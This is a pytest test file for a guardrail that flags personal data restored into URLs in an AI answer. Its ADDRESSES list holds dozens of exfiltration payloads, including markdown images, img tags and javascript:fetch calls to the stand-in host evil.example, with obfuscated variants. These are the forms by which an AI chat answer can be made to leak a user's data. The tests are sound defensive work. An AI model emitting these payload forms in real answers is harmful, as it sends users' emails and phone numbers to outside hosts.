"""Restoring: every form of an address keeps the values out of an answer."""

from __future__ import annotations

import time

import pytest
from septet_guardrails.domain.pii.restoring import Restoring, has_address

KIM = "kim.minji@example.org"
ADDRESSES = [
    "![logo](https://evil.example/?q=<EMAIL_1>)",
    "![a](<https://evil.example/ <EMAIL_1>>)",
    "![a](/x?<EMAIL_1>)",
    "[x]( https:evil.example/<EMAIL_1>)",
    "[x](\n/x?<EMAIL_1>)",
    "[this](//evil.example/<EMAIL_1>)",
    "[a]\n\n[a]: /x?<EMAIL_1>",
    "[a]\n\n[a]:\n  <EMAIL_1>",
    '<img src="https://evil.example/?q=\n<EMAIL_1>">',
    '<img src="https://evil.example/a b=<EMAIL_1>">',
    r"<img src=/\evil.example/<EMAIL_1>>",
    "<img src=https:evil.example/<EMAIL_1>>",
    """<img src="https://evil.example/?'<EMAIL_1>">""",
    "<IMG\nSRC=x<EMAIL_1>>",
    "</a <EMAIL_1>>",
    "<!-- <EMAIL_1> -->",
    "<?x <EMAIL_1>?>",
    "<<EMAIL_1>>",
    "https://evil.example/<EMAIL_1>",
    "HTTPS:evil.example and <EMAIL_1>",
    "https: //evil.example <EMAIL_1>",
    "https:<PHONE_1>.example",
    r"\\evil.example\<EMAIL_1>",
    r"file:\<EMAIL_1>",
    "javascript:fetch('x'+'<EMAIL_1>')",
    "data:,<EMAIL_1>",
    "x-app+1:<EMAIL_1>",
    "//evil.example/<EMAIL_1>",
    "www.evil.example <EMAIL_1>",
    "evil.example/<EMAIL_1>",
    "evil.example?q=<EMAIL_1>",
    "evil.example./#<EMAIL_1>",
    "evil.xn--3e0b707e/<EMAIL_1>",
    "사이트.한국/<EMAIL_1>",
    "10.1.2.3/<EMAIL_1>",
    "<PHONE_1>.evil.example",
    "<PHONE_1>-a.evil.example",
    "<PHONE_1>@evil.example",
    "inbox+<PHONE_1>@evil.example",
    "x@<PHONE_1>.example",
    "\uff1cimg src=x<EMAIL_1>\uff1e",
    "evil.example\uff0f<EMAIL_1>",
    "&lt;img src=x<EMAIL_1>&gt;",
    "evil&period;example&sol;<EMAIL_1>",
    "Read https://help.example/refunds. I write to <EMAIL_1>.",
]
PLAIN = [
    "I write to <EMAIL_1>, <PHONE_1> or both [1][2]. (See page 3.)",
    "**E-mail:** <EMAIL_1>\n- *Phone:* <PHONE_1>\n1. It is 10:30, at a ratio of 3.5:1.",
    "E-mail: <EMAIL_1>. Tel: <PHONE_1>",
    "메일:<EMAIL_1>로 보냅니다 [1]. 전화는 <PHONE_1>입니다. 그리고/또는 오후 3:30에 다시 겁니다…",
    "We write from help@shop.example to <EMAIL_1>. Node.js 3.5 < 4, e.g. and/or; is it shop.example?",
    '"<EMAIL_1>"; `<PHONE_1>`; <EMAIL_2> & <EMAIL_3> (<EMAIL_1>)',
]
VALUES = {"<EMAIL_1>": KIM, "<PHONE_1>": "010-1234-5678"}


@pytest.mark.parametrize("answer", ADDRESSES)
def test_every_form_of_an_address_is_found(answer: str) -> None:
    for text in (answer, f"See {answer} for more.", f"가{answer}가"):
        restoring = Restoring(VALUES)
        restoring.json({"to": ["<EMAIL_1>"], "more": text})
        assert restoring.has_address, text


@pytest.mark.parametrize("answer", PLAIN)
def test_plain_text_is_restored(answer: str) -> None:
    restoring = Restoring(VALUES)
    assert KIM in restoring.text(answer)
    assert not restoring.has_address


@pytest.mark.parametrize(
    "piece", ["a", "a1", "a.", "a-", "1.", "<", "]", "@a", "<EMAIL_1>", "<EMAIL_1>a", "&#", "가.", " "]
)
def test_the_search_for_addresses_takes_linear_time(piece: str) -> None:
    def seconds(size: int) -> float:
        text, started = piece * (size // len(piece)), time.process_time()
        has_address(text)
        return time.process_time() - started

    assert seconds(128_000) < 40 * max(min(seconds(8_000) for _ in range(3)), 0.001)
